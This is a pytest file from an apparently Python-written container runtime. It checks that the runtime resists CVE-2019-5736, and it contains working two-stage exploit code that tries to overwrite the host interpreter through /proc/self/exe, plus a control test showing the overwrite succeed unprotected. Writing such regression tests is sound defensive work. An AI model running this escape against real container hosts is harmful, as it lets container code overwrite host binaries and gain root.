"""CVE-2019-5736: the image's program is `#!/proc/self/exe`, so the runtime becomes its own interpreter once more.

The attacker's code in it opens that file, waits until nobody executes it any more, and writes: whoever starts the next
container on the host would run the attacker's program as root. The target here is a copy of the interpreter.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys

import pytest

from escapes import LAUNCHER, PYTHON, python_mounts

pytestmark = pytest.mark.root

# In the host's interpreter: take hold of its file, become another program, and write as soon as it is not in use.
_STAGE_1 = """\
#!/proc/self/exe
import os
target = os.open("/proc/self/exe", os.O_PATH)
os.set_inheritable(target, True)
os.execv({python!r}, [{python!r}, "-IS", "-c", open("/stage2").read(), str(target)])
"""
_STAGE_2 = """
import errno, os, sys, time
sys.stdout = open("/tmp/report", "w")
for flags in (os.O_WRONLY, os.O_RDWR | os.O_APPEND):
    for attempt in range(200):
        try:
            os.write(os.open(f"/proc/self/fd/{sys.argv[1]}", flags), b"#!attacker")
            print("written")
            break
        except OSError as error:
            if error.errno != errno.ETXTBSY:
                print(errno.errorcode[error.errno])
                break
            time.sleep(0.01)
for change in (
    lambda: os.chmod(f"/proc/self/fd/{sys.argv[1]}", 0o777),
    lambda: os.truncate(f"/proc/self/fd/{sys.argv[1]}", 0),
    lambda: os.utime(f"/proc/self/fd/{sys.argv[1]}", (1, 1)),
    lambda: os.link(f"/proc/self/fd/{sys.argv[1]}", "/linked", follow_symlinks=True),
):
    try:
        change()
        print("changed")
    except OSError as error:
        print(errno.errorcode[error.errno])
sys.stdout.flush()
os.rename("/tmp/report", "/report")
"""
_ENVIRONMENT = ("PATH=/bin", f"PYTHONHOME={os.path.dirname(os.path.dirname(PYTHON))}")


@pytest.fixture
def copy(tmp_path) -> str:
    """A copy of the interpreter, which stands for the host's."""
    home = tmp_path / "python"
    (home / "bin").mkdir(parents=True)
    library = os.path.dirname(os.path.dirname(PYTHON))
    os.symlink(f"{library}/lib", home / "lib")
    path = str(home / "bin" / os.path.basename(PYTHON))
    shutil.copy(PYTHON, path)
    return path


def _write(path: str, text: str) -> None:
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    os.chmod(path, 0o755)


def _evil_bundle(cell) -> str:
    _write(f"{cell.rootfs}/evil", _STAGE_1.format(python=PYTHON))
    _write(f"{cell.rootfs}/stage2", _STAGE_2)
    return cell.bundle("/evil", env=_ENVIRONMENT, mounts=python_mounts())


def _sum(path: str) -> tuple[bytes, int]:
    with open(path, "rb") as file:
        return file.read(), os.stat(path).st_mode


def _attacked(cell, wait_until, command: list[str]) -> list[str]:
    """Run the runtime to its end, so that nobody executes the file any more; gives what the attacker says then."""
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    path = f"{cell.rootfs}/report"
    wait_until(lambda: os.path.exists(path), "the attacker tells")
    with open(path, encoding="utf-8") as file:
        answers = file.read().split()
    assert len(answers) == 6
    return answers


def test_the_interpreter_cannot_be_written_from_inside(cell, copy, wait_until):
    before = _sum(copy)
    words = ["--root", cell.root, "run", "--detach", "-b", _evil_bundle(cell), cell.name()]
    answers = _attacked(cell, wait_until, [copy, "-I", "-S", LAUNCHER, *words])
    assert answers == ["EROFS"] * 5 + ["EXDEV"]
    assert _sum(copy) == before


def test_the_interpreter_cannot_be_written_by_what_exec_runs(cell, copy, wait_until):
    before = _sum(copy)
    _evil_bundle(cell)
    name = cell.start("sleep", "60", env=_ENVIRONMENT, mounts=python_mounts())
    words = ["--root", cell.root, "exec", "--detach", name, "/evil"]
    answers = _attacked(cell, wait_until, [copy, "-I", "-S", LAUNCHER, *words])
    assert answers == ["EROFS"] * 5 + ["EXDEV"]
    assert _sum(copy) == before


def test_without_protection_the_attack_works(cell, copy, wait_until):
    """The control: the same runtime, called in a way that does not go through the protected interpreter."""
    before = _sum(copy)
    source = os.path.dirname(os.path.dirname(os.path.dirname(LAUNCHER)))
    words = ["--root", cell.root, "run", "--detach", "-b", _evil_bundle(cell), cell.name()]
    script = f"import sys; sys.path.insert(0, {source!r}); from estiba.runtime.main import main; main({words!r})"
    answers = _attacked(cell, wait_until, [copy, "-IS", "-c", script])
    assert answers[0] == "written"
    assert _sum(copy) != before


def test_the_callers_interpreter_is_the_one_that_is_guarded():
    """What the tests above replace by a copy."""
    assert os.path.realpath(sys.executable) == PYTHON


# The mode that it has, so that nothing changes where it can be changed.
_TRY = """\
import errno, os
try:
    os.chmod("/proc/self/exe", os.stat("/proc/self/exe").st_mode)
    print("changed")
except OSError as error:
    print(errno.errorcode[error.errno])
"""


@pytest.mark.parametrize("flags", [("-i",), ("-t",), ()], ids=" ".join)
@pytest.mark.parametrize("command", ["run", "exec"])
def test_whatever_command_starts_it_the_interpreter_is_guarded(busybox_host, command, flags):
    """The program is `/proc/self/exe` itself: the file of the process that becomes it, whichever that is."""
    home = ("-e", _ENVIRONMENT[1])
    mounts = [word for m in python_mounts() for word in ("-v", f"{m.source}:{m.destination}:ro")]
    evil = ("/proc/self/exe", "-IS", "-c", _TRY)
    if command == "run":
        words = ("run", "--rm", "--network", "none", *flags, *home, *mounts, "busybox", *evil)
    else:
        busybox_host.estiba("run", "-d", "--name", "cell", "--network", "none", *mounts, "busybox", "sleep", "60")
        words = ("exec", *flags, *home, "cell", *evil)
    assert busybox_host.estiba(*words, stdin=subprocess.DEVNULL).stdout.split() == ["EROFS"]


def test_an_interpreter_that_is_not_guarded_can_be_changed(cell):
    """The control of the test above."""
    shutil.copy(PYTHON, f"{cell.rootfs}/python")
    done = cell.run("/python", "-IS", "-c", _TRY, env=_ENVIRONMENT, mounts=python_mounts())
    assert done.stdout.split() == ["changed"], done.stderr
